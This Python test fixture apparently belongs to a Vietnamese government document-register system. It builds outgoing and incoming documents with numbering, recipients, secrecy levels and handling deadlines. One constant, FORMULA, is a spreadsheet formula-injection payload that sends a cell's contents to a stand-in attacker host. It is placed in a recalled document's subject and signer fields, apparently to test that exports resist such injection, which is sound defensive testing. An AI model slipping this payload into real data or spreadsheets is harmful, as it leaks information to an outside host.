"""The register book of the register and report tests: outgoing documents numbered out of the order they
were made (one recalled, one of last year, one secret in the secret register), incoming ones with their
handling (done on time and answered, done late, running, not yet given), made directly with the models."""

import datetime as dt

import pytest

from documents.models import Assignment, Document, Recipient
from tests.documents.search_helpers import document_make, moment

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'


def outgoing(office, number, notation, day, **fields):
    fields.setdefault("drafting_unit", office.culture)
    return document_make(office, direction="outgoing", register=office.outgoing, year=day.year,
                         code_number=number, code_notation=notation, issued_date=day,
                         issued_at=moment(day, 10), **fields)


@pytest.fixture
def book(office, other_office):
    """Outgoing documents numbered out of the order they were made, incoming ones with their handling."""
    ten = outgoing(office, "10", "QĐ-UBND", dt.date(2026, 3, 5), type_code="quyet-dinh",
                   subject="Về việc khen thưởng tập thể", signer_name="Trần Văn Chủ Tịch", issued_amount=5,
                   urgency=Document.Urgency.URGENT)
    Recipient.objects.create(document=ten, agency=other_office.agency, position=1)
    Recipient.objects.create(document=ten, unit=office.culture, position=2)
    Recipient.objects.create(document=ten, external_name="Sở Tài chính", position=3)
    two = outgoing(office, "02", "UBND-VX", dt.date(2026, 1, 20), subject=FORMULA, signer_name=FORMULA,
                   state=Document.State.RECALLED)
    one = outgoing(office, "01", "QĐ-UBND", dt.date(2026, 1, 5), type_code="quyet-dinh",
                   subject="Về việc ban hành quy chế làm việc", drafting_unit=office.office)
    old = outgoing(office, "99", "UBND-VX", dt.date(2025, 12, 30), subject="Về việc năm cũ")
    secret = document_make(office, direction="outgoing", register=office.secret_outgoing, year=2026,
                           code_number="01", code_notation="QĐ-UBND", issued_date=dt.date(2026, 2, 1),
                           subject="Về việc bảo vệ bí mật", secrecy=Document.Secrecy.SECRET)

    def incoming(number, day, **fields):
        fields.setdefault("register", office.incoming)
        return document_make(office, arrival_number=number, arrival_at=moment(day, 8), year=day.year, **fields)

    def lead(document, *, day, deadline, done=None, **who):
        return Assignment.objects.create(
            document=document, role="lead", deadline=deadline, assigned_by=office.leader, assigned_at=moment(day, 9),
            state="done" if done else "open", completed_at=moment(done, 16) if done else None, **who)

    answered = incoming(1, dt.date(2026, 2, 2), organ_name="Ủy ban nhân dân xã Bình An", code_number="12",
                        code_notation="UBND-VX", issued_date=dt.date(2026, 1, 30),
                        subject="Về việc phối hợp tổ chức hội thao")
    lead(answered, day=dt.date(2026, 2, 3), deadline=dt.date(2026, 2, 20), done=dt.date(2026, 2, 18),
         unit=office.culture)
    Assignment.objects.create(document=answered, role="cooperate", user=office.other, assigned_by=office.leader,
                              assigned_at=moment(dt.date(2026, 2, 3), 9))
    reply = outgoing(office, "03", "UBND-VX", dt.date(2026, 2, 17), subject="Về việc trả lời phối hợp",
                     reply_to=answered)
    late = incoming(2, dt.date(2026, 2, 10), organ_name="Sở Y tế", subject="Về việc tiêm chủng",
                    type_code="ke-hoach", code_number="08", code_notation="KH-SYT")
    lead(late, day=dt.date(2026, 2, 10), deadline=dt.date(2026, 2, 15), done=dt.date(2026, 2, 17),
         user=office.specialist)
    running = incoming(3, dt.date(2026, 3, 1), organ_name="Sở Tài chính", subject="Về việc quyết toán")
    lead(running, day=dt.date(2026, 3, 2), deadline=dt.date(2026, 3, 10), unit=office.office)
    waiting = incoming(4, dt.date(2026, 3, 3), organ_name="Công an tỉnh", subject="Về việc an ninh")
    last_year = incoming(120, dt.date(2025, 12, 31), subject="Về việc cuối năm")
    return {"ten": ten, "two": two, "one": one, "old": old, "secret": secret, "answered": answered,
            "reply": reply, "late": late, "running": running, "waiting": waiting, "last_year": last_year}


